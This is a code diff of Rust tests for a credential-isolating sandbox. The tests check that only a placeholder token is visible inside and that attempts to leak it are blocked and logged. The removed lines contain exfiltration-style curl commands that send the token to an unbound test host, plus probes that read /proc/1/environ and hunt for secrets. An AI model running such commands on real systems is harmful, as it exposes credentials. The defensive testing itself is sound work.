@@ -2,11 +2,11 @@
 //! bound to one intercepted host) and in a fake `$HOME` full of decoys; the bottle holds only a placeholder. The
 //! bottle searches for the real values everywhere, and tries to send the placeholder where it is not bound.
 
-use std::sync::OnceLock;
+use bottle_probe::catalogue::{CREDENTIALS, Values};
 
 use crate::decoys::{self, Upstream};
 use crate::lab::Lab;
-use crate::scenario::{self, Env, LAUNCHERS, Launch, Runs, Script, hex};
+use crate::scenario::{self, Env, LAUNCHERS, Launch, Runs, Script};
 
 /// The launcher-side variable holding the real secret; inside, the same name holds the placeholder.
 const TOKEN_VAR: &str = "BOTTLE_TEST_TOKEN";
@@ -30,9 +30,9 @@ struct Creds {
     plain: Upstream,
 }
 
-static FAMILY: OnceLock<Result<Creds, String>> = OnceLock::new();
+static FAMILY: scenario::Cells<Creds> = scenario::Cells::new();
 
-fn family() -> Option<&'static Creds> {
+fn family() -> Vec<&'static Creds> {
     scenario::family(&FAMILY, setup, |f| {
         f.runs.tools_present();
     })
@@ -57,46 +57,30 @@ from_env = "{TOKEN_VAR}"
     )
 }
 
+/// The catalogue's credentials cases. `decoys` are the five fake-home secrets, then the launcher-only variable, then
+/// the host file, in the order of the catalogue's `c31-decoy-N`.
 fn script(secret: &str, decoys: &[(String, String)], t: u16, p: u16) -> Script {
-    let mut sc = Script::default();
-    sc.tools(&["curl"]);
-    let auth = format!("-H \"authorization: Bearer ${TOKEN_VAR}\"");
-    let curl = |args: String| format!("curl -sS --fail --max-time 20 {args}");
-    sc.shell(
-        "ctl-placeholder",
-        &format!("case \"${TOKEN_VAR}\" in bottle-placeholder-*) exit 0;; esac; exit 1"),
-    )
-    .shell("ctl-inject", &curl(format!("{auth} https://upstream.test:{t}/inject")));
-    // 31: search for the real values
-    sc.probe("c31-real-secret", &["find-secret", &hex(secret)])
-        .probe("c31-init-environ", &["read-file", "/proc/1/environ", &hex(secret)]);
-    for (i, (_, value)) in decoys.iter().enumerate() {
-        sc.probe(&format!("c31-decoy-{i}"), &["find-secret", &hex(value)]);
+    let names = [
+        "decoy_home_0",
+        "decoy_home_1",
+        "decoy_home_2",
+        "decoy_home_3",
+        "decoy_home_4",
+        "host_env",
+        "host_file",
+    ];
+    assert_eq!(decoys.len(), names.len());
+    let mut values = Values::default();
+    values
+        .set("token_var", TOKEN_VAR)
+        .set("secret", secret)
+        .set("tls_port", t)
+        .set("plain_port", p);
+    for (name, (_, value)) in names.iter().zip(decoys) {
+        values.set(name, value);
     }
-    // 32: the placeholder to a host it is not bound to
-    sc.shell(
-        "c32-other-host-header",
-        &curl(format!("{auth} https://other.test:{t}/c32-header")),
-    )
-    .shell(
-        "c32-other-host-query",
-        &curl(format!("\"https://other.test:{t}/c32-query?token=${TOKEN_VAR}\"")),
-    )
-    .shell(
-        "c32-bound-host-wrong-header",
-        &curl(format!(
-            "-H \"x-api-key: ${TOKEN_VAR}\" https://upstream.test:{t}/c32-wrong-header"
-        )),
-    );
-    // 33: the placeholder over plain HTTP, to another host and to the bound host's name
-    sc.shell(
-        "c33-plain-other",
-        &curl(format!("{auth} http://plain.test:{p}/c33-plain")),
-    )
-    .shell(
-        "c33-plain-bound-name",
-        &curl(format!("{auth} http://upstream.test:{p}/c33-bound")),
-    );
+    let mut sc = Script::default();
+    sc.catalogue(&CREDENTIALS, &values);
     sc
 }
 
@@ -220,107 +204,119 @@ fn refused_launch(f: &Creds, name: &str, toml: &str) -> Vec<(&'static str, Strin
 
 #[test]
 fn case_31_only_the_placeholder_is_found_inside() {
-    let Some(f) = family() else { return };
-    f.runs.reached("ctl-placeholder");
-    // The credential works, so the real value exists on the host side and the search below means something.
-    f.runs.reached("ctl-inject");
-    let injected: Vec<_> = f.tls.seen().into_iter().filter(|s| s.target == "/inject").collect();
-    assert!(!injected.is_empty(), "no injected request");
-    for l in &f.launched {
-        let bearer = format!("Bearer {}", l.secret);
-        assert!(
-            injected
-                .iter()
-                .any(|s| s.header("authorization") == Some(bearer.as_str())),
-            "the {} launcher's real secret was not injected: {injected:#?}",
-            l.who
-        );
-    }
-    for s in &injected {
-        assert!(
-            f.launched
-                .iter()
-                .any(|l| s.header("authorization") == Some(format!("Bearer {}", l.secret).as_str())),
-            "an injected request carried something other than a real secret: {s:#?}"
-        );
-    }
-    for (who, v) in f.runs.held("c31-real-secret") {
-        assert!(v.detail["processes"].as_u64().unwrap() >= 2, "{who}: {v:#?}");
-    }
-    f.runs.held("c31-init-environ");
-    for ((who, ran), l) in f.runs.0.iter().zip(&f.launched) {
-        for (i, (what, _)) in l.decoys.iter().enumerate() {
-            let v = ran.verdict(&format!("c31-decoy-{i}"));
+    for f in family() {
+        f.runs.reached("ctl-placeholder");
+        // The credential works, so the real value exists on the host side and the search below means something.
+        f.runs.reached("ctl-inject");
+        let injected: Vec<_> = f.tls.seen().into_iter().filter(|s| s.target == "/inject").collect();
+        assert!(!injected.is_empty(), "no injected request");
+        for l in &f.launched {
+            let bearer = format!("Bearer {}", l.secret);
             assert!(
-                !v.escaped,
-                "ESCAPE ({who} launcher): the secret in {what} is readable in the bottle: {v:#?}"
+                injected
+                    .iter()
+                    .any(|s| s.header("authorization") == Some(bearer.as_str())),
+                "the {} launcher's real secret was not injected: {injected:#?}",
+                l.who
             );
+        }
+        for s in &injected {
+            assert!(
+                f.launched
+                    .iter()
+                    .any(|l| s.header("authorization") == Some(format!("Bearer {}", l.secret).as_str())),
+                "an injected request carried something other than a real secret: {s:#?}"
+            );
+        }
+        for (who, v) in f.runs.held("c31-real-secret") {
+            assert!(v.detail["processes"].as_u64().unwrap() >= 2, "{who}: {v:#?}");
+        }
+        f.runs.held("c31-init-environ");
+        for ((who, ran), l) in f.runs.0.iter().zip(&f.launched) {
+            for (i, (what, _)) in l.decoys.iter().enumerate() {
+                let v = ran.verdict(&format!("c31-decoy-{i}"));
+                assert!(
+                    !v.escaped,
+                    "ESCAPE ({who} launcher): the secret in {what} is readable in the bottle: {v:#?}"
+                );
+            }
         }
     }
 }
 
 #[test]
 fn case_32_placeholder_to_an_unbound_host_is_not_substituted_but_blocked_and_logged() {
-    let Some(f) = family() else { return };
-    for id in [
-        "c32-other-host-header",
-        "c32-other-host-query",
-        "c32-bound-host-wrong-header",
-    ] {
-        f.runs.held(id);
-    }
-    let got = received(f);
-    // Matched on the request line, not the whole text: a random secret may itself contain "c32".
-    assert!(
-        !got.iter().any(|t| request_line(t).contains("/c32-")),
-        "a leaking request reached an upstream: {got:#?}"
-    );
-    assert!(!got.iter().any(|t| t.contains("bottle-placeholder-")), "{got:#?}");
-    for l in &f.launched {
-        let leaks = l.audit.iter().filter(|a| a["event"] == "placeholder-leak").count();
+    for f in family() {
+        for id in [
+            "c32-other-host-header",
+            "c32-other-host-query",
+            "c32-bound-host-wrong-header",
+        ] {
+            f.runs.held(id);
+        }
+        let got = received(f);
+        // Matched on the request line, not the whole text: a random secret may itself contain "c32".
         assert!(
-            leaks >= 3,
-            "each leak must be audited ({} launcher), found {leaks}",
-            l.who
+            !got.iter().any(|t| request_line(t).contains("/c32-")),
+            "a leaking request reached an upstream: {got:#?}"
         );
+        assert!(!got.iter().any(|t| t.contains("bottle-placeholder-")), "{got:#?}");
+        for l in &f.launched {
+            let leaks = l.audit.iter().filter(|a| a["event"] == "placeholder-leak").count();
+            assert!(
+                leaks >= 3,
+                "each leak must be audited ({} launcher), found {leaks}",
+                l.who
+            );
+        }
     }
 }
 
 #[test]
 fn case_33_placeholder_over_plain_http_is_not_substituted() {
-    let Some(f) = family() else { return };
-    f.runs.held("c33-plain-other");
-    f.runs.held("c33-plain-bound-name");
-    let got = received(f);
-    assert!(!got.iter().any(|t| request_line(t).contains("/c33-")), "{got:#?}");
-    for l in &f.launched {
-        assert!(
-            !got.iter()
-                .any(|t| t.contains(&l.secret) && !t.starts_with("GET /inject")),
-            "{} launcher: {got:#?}",
-            l.who
-        );
+    for f in family() {
+        f.runs.held("c33-plain-other");
+        f.runs.held("c33-plain-bound-name");
+        let got = received(f);
+        assert!(!got.iter().any(|t| request_line(t).contains("/c33-")), "{got:#?}");
+        for l in &f.launched {
+            assert!(
+                !got.iter()
+                    .any(|t| t.contains(&l.secret) && !t.starts_with("GET /inject")),
+                "{} launcher: {got:#?}",
+                l.who
+            );
+        }
     }
 }
 
 #[test]
 fn case_34_a_credential_for_a_host_without_interception_refuses_to_launch() {
-    let Some(f) = family() else { return };
-    let toml = format!(
-        "[network]\nallow_cidr = [\"127.0.0.1/32\"]\n[network.resolve]\n\"pass.test\" = \"127.0.0.1\"\n\n\
+    for f in family() {
+        let toml = format!(
+            "[network]\nallow_cidr = [\"127.0.0.1/32\"]\n[network.resolve]\n\"pass.test\" = \"127.0.0.1\"\n\n\
          [[host]]\nname = \"pass.test\"\ntls = \"passthrough\"\n\n[[credential]]\nhost = \"pass.test\"\n\
          header = \"authorization\"\nfrom_env = \"{TOKEN_VAR}\"\n"
-    );
-    for (who, err) in refused_launch(f, "c34", &toml) {
-        assert!(err.contains("passthrough"), "{who}: {err}");
+        );
+        for (who, err) in refused_launch(f, "c34", &toml) {
+            assert!(err.contains("passthrough"), "{who}: {err}");
+        }
     }
 }
 
 #[test]
 fn extra_pass_env_of_a_credentials_real_secret_refuses_to_launch() {
-    let Some(f) = family() else { return };
-    let toml = format!("[bottle]\npass_env = [\"{TOKEN_VAR}\"]\n\n{}", policy_toml());
-    for (who, err) in refused_launch(f, "x-pass-env", &toml) {
-        assert!(err.contains(TOKEN_VAR), "{who}: {err}");
+    for f in family() {
+        let toml = format!("[bottle]\npass_env = [\"{TOKEN_VAR}\"]\n\n{}", policy_toml());
+        for (who, err) in refused_launch(f, "x-pass-env", &toml) {
+            assert!(err.contains(TOKEN_VAR), "{who}: {err}");
+        }
+    }
+}
+
+#[test]
+fn extra_every_credentials_catalogue_case_meets_its_expectation() {
+    for f in family() {
+        f.runs.meet_the_catalogue(&CREDENTIALS);
     }
 }
